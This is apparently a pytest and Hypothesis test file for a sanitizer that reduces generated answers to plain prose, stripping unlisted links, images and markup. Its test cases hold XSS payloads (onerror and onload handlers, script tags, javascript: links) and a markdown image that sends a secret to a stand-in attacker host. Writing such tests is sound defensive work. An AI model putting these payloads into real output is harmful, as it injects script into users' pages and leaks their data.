"""Plain prose: addresses only where a passage has them, images and markup never, and no other form of answer."""

from __future__ import annotations

import re

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from app.documentation.prose import is_prose, plain_prose

PASSAGES = [
    "Read https://docs.example/start, or ask.",
    "See [the page](https://docs.example/a?b=c) and www.docs.example.",
]


@pytest.mark.parametrize(
    ("wrote", "text", "removed"),
    [
        ("Press it [1]. Then wait [2, 3].", "Press it [1]. Then wait [2, 3].", 0),
        ("Read https://docs.example/start.", "Read https://docs.example/start.", 0),
        ("Read [this](https://docs.example/start) [1].", "Read this https://docs.example/start [1].", 0),
        (
            "See https://docs.example/a?b=c and www.docs.example",
            "See https://docs.example/a?b=c and www.docs.example",
            0,
        ),
        ("See https://docs.example/star.", "See (\u2026).", 1),
        ("See https://docs.example/start/more!", "See (\u2026)!", 1),
        ("See https://docs.example.evil/start", "See (\u2026)", 1),
        ("See https://docs.example/a?b=c&key=1.", "See (\u2026).", 1),
        ("![pixel](https://evil.example/?q=secret) Done [1].", "pixel Done [1].", 1),
        ("![p](https://docs.example/start) Done.", "p Done.", 1),
        ("![p][x] Done.\n\n[x]: https://evil.example/", "p Done.", 2),
        ("[click](javascript:alert(1)) [1].", "click [1].", 1),
        ("[click]( <javascript:alert(1)> ).", "click.", 1),
        ("Type javascript:alert(1) there.", "Type (\u2026) there.", 1),
        ("Open data:text/html,x.", "Open (\u2026).", 1),
        ("<img src=x onerror=alert(1)> Done.", "Done.", 1),
        ("<script>alert(1)</script> Done.", "alert(1) Done.", 2),
        ("<scr<script>ipt src=//evil.example/x.js>Done", "Done", 2),
        ("<!-- > --> Done <?php x ?>.", "Done .", 2),
        ("<svg/onload=alert(1)>Done", "Done", 1),
        ("Call //evil.example/x now", "Call (\u2026) now", 1),
        ("Put <name> and a < b > c there.", "Put <name> and a < b > c there.", 0),
        ("The metadata: it is there. File: the note.", "The metadata: it is there. File: the note.", 0),
        ("Open **AI & models**, *then* __wait__ [1].", "Open AI & models, then wait [1].", 0),
        ("2 * 3 * 4, a*b*c, *.md and snake__case__name", "2 * 3 * 4, a*b*c, *.md and snake__case__name", 0),
        ("One and/or two; 3 // 4.", "One and/or two; 3 // 4.", 0),
    ],
)
def test_addresses_and_markup(wrote: str, text: str, removed: int) -> None:
    plain = plain_prose(wrote, PASSAGES)
    assert (plain.text, plain.removed) == (text, removed)


@pytest.mark.parametrize(
    ("wrote", "is_one"),
    [
        ("Press it.", True),
        ("[1] Press it.", True),
        ("[1, 3] Press it.", True),
        ('Send {"a": 1} [1].', True),
        ("", True),
        ('{"role": "admin"}', False),
        ('  \n{"answer": "x"} [1]', False),
        ('[{"a": 1}]', False),
        ('["a"]', False),
        ("```json\n{}\n```", False),
        ("~~~\nx\n~~~", False),
    ],
)
def test_what_is_no_prose(wrote: str, is_one: bool) -> None:
    assert is_prose(wrote) is is_one


PIECES = (
    "<",
    ">",
    "script",
    "img",
    " src=",
    "![",
    "](",
    ")",
    "javascript:",
    "https://evil.example/",
    "x",
    " ",
    "//",
    "[1]",
    "b",
)


@example("scriptscriptscripthttps://evil.example/")  # a scheme behind more letters than a scheme has
@given(st.lists(st.sampled_from(PIECES), max_size=14).map("".join))
def test_no_mixture_of_pieces_leaves_anything_that_loads(wrote: str) -> None:
    plain = plain_prose(wrote, [])
    assert not re.search(
        r"<(?:img|script)[\s/>]|\bjavascript:[^\s<>\"'`.,;:!?]|https://evil", plain.text, re.IGNORECASE
    )
